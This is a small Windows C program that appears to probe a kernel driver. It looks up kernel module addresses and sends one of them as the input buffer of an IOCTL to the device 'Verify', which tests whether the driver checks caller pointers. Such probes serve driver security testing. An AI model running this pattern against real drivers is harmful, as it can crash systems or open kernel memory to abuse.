/*
 * Sends the address of a module of the kernel in place of one of its own.
 */
#include <stdio.h>
#include <windows.h>

typedef BOOL WINAPI enumerate(LPVOID *bases, DWORD size, LPDWORD needed);

int main(void)
{
    enumerate *drivers =
        (enumerate *)GetProcAddress(GetModuleHandleA("kernel32.dll"), "K32EnumDeviceDrivers");
    LPVOID bases[64];
    HANDLE file =
        CreateFileA("\\\\.\\Verify", GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    DWORD done;

    if (file == INVALID_HANDLE_VALUE || !drivers || !drivers(bases, sizeof(bases), &done))
        return 1;
    DeviceIoControl(file, 0x222003, bases[0], 64, NULL, 0, &done, NULL);
    CloseHandle(file);
    return 0;
}
